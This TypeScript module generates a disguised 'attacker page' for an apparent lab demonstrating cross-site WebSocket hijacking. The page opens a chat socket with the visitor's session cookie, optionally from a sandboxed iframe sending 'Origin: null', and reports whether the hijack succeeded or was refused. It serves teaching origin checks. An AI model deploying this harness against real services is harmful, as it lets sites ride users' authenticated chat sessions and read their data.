import type { ChatEndpoint } from '../chat-endpoint.js';
import { attackClientTag, attackScript } from './attack-script.js';

/**
 * Where the attack runs:
 * - `page`: in the attacker's page itself; the handshake carries the page's origin;
 * - `sandboxed-iframe`: in an `<iframe sandbox="allow-scripts">` of that page. The frame's
 *   origin is opaque, so its handshake carries `Origin: null`, which any site can produce:
 *   the reason `'null'` must not be an allowed origin.
 */
export type AttackLaunch = 'page' | 'sandboxed-iframe';

/** The attacker page's path on the attacker's server, per launch. */
export const ATTACKER_PAGE_PATHS: Readonly<Record<AttackLaunch, string>> = {
  page: '/',
  'sandboxed-iframe': '/sandboxed',
};

export function attackerPage(target: ChatEndpoint, launch: AttackLaunch = 'page'): string {
  const sandboxed = launch === 'sandboxed-iframe';
  const frameDocument = `<!doctype html><meta charset="utf-8">${attackClientTag(target)}<script>
${attackScript(target)}
attack((outcome) => parent.postMessage(outcome, '*'));
</script>`;
  const where = sandboxed
    ? `The attack runs in a sandboxed iframe of this page: its origin is opaque, so the
handshake says <code>Origin: null</code>. <a href="${ATTACKER_PAGE_PATHS.page}">Run it in the page itself</a>.`
    : `Your browser attaches your chat session cookie by itself, because this page is on the same
site (another port of the same host). <a href="${ATTACKER_PAGE_PATHS['sandboxed-iframe']}">Run it
from a sandboxed iframe (<code>Origin: null</code>)</a>.`;
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Totally harmless page</title>
<style>body{font:16px system-ui;max-width:44rem;margin:2rem auto;padding:0 1rem}#result{padding:1rem;border-radius:.5rem;background:#eee}.stolen{background:#fdd!important}.refused{background:#dfd!important}</style>
${attackClientTag(target)}
</head>
<body>
<h1>A page on another origin</h1>
<p>This page's origin is <code id="origin"></code>. It tries to open the chat's socket at
<code>${target.url}</code> (${target.transport}). ${where}</p>
<div id="result">Attacking…</div>
<p><button id="again">Try again</button></p>
<script>
${attackScript(target)}
document.getElementById('origin').textContent = location.origin;
const result = document.getElementById('result');
let reported = false;
function show(outcome) {
  if (reported) return;
  reported = true;
  window.attackOutcome = outcome;
  if (outcome.stolen) {
    result.className = 'stolen';
    result.textContent = 'HIJACKED: the socket opened with your session and answered: ' + JSON.stringify(outcome.stolen);
  } else if (outcome.refused) {
    result.className = 'refused';
    result.textContent = 'Refused: the handshake was rejected before the socket opened (' + (outcome.connectError ?? 'error event, close code ' + outcome.closeCode) + '). The server log says why.';
  } else {
    result.textContent = 'The socket opened but closed before answering (' + [outcome.closeCode, outcome.reason].filter((part) => part !== undefined).join(' ') + '). Log in on the chat page first.';
  }
}
${sandboxed ? sandboxedLauncher(frameDocument) : 'function launch() { attack(show); }'}
function run() { reported = false; result.className = ''; result.textContent = 'Attacking…'; launch(); }
document.getElementById('again').onclick = run;
run();
</script>
</body>
</html>`;
}

/** Runs the attack in a fresh sandboxed frame, which reports back with `postMessage`. */
function sandboxedLauncher(frameDocument: string): string {
  return `let frame;
window.addEventListener('message', (event) => {
  if (frame && event.source === frame.contentWindow) show(event.data);
});
function launch() {
  frame?.remove();
  frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.hidden = true;
  frame.srcdoc = ${scriptLiteral(frameDocument)};
  document.body.append(frame);
}`;
}

/** A JavaScript string literal that is safe inside `<script>`: no `</script>` can end it. */
function scriptLiteral(text: string): string {
  return JSON.stringify(text).replaceAll('<', '\\u003c');
}
